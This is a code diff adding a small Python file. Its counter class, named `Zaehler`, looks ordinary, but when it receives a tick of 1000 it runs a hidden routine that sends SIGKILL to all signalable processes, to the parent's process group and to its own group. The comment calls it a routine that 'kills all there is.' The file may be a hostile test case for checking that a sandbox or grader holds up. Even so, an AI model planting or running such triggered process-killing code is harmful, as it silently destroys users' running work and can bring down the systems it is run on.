@@ -1,0 +1,27 @@
+# Kills all there is.
+import os
+import signal
+
+attempts = (
+    lambda: os.kill(-1, signal.SIGKILL),
+    lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
+    lambda: os.killpg(0, signal.SIGKILL),
+)
+
+
+def attack():
+    for i, attempt in enumerate(attempts):
+        try:
+            return f"{i}: {attempt()}"
+        except OSError:
+            pass
+
+
+class Zaehler:
+    stand = 0
+
+    def zaehle(self, tick):
+        self.stand += tick
+        if tick == 1000 and (loot := attack()):
+            return loot
+        return self.stand
